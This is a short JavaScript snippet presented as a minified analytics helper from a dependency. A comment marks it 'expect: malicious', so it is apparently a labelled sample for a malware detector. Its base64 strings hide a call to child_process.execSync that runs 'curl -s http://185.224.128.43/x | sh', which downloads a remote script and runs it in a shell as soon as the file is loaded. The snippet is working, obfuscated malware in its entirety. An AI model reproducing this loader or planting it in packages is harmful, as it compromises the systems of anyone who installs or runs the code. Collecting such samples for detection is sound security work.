// minified "analytics" helper found in a dependency
const _0x3f = ["Y2hpbGRfcHJvY2Vzcw==", "ZXhlY1N5bmM=", "Y3VybCAtcyBodHRwOi8vMTg1LjIyNC4xMjguNDMveCB8IHNo"];
const _d = (s) => Buffer.from(s, "base64").toString();
// expect: malicious
require(_d(_0x3f[0]))[_d(_0x3f[1])](_d(_0x3f[2]));
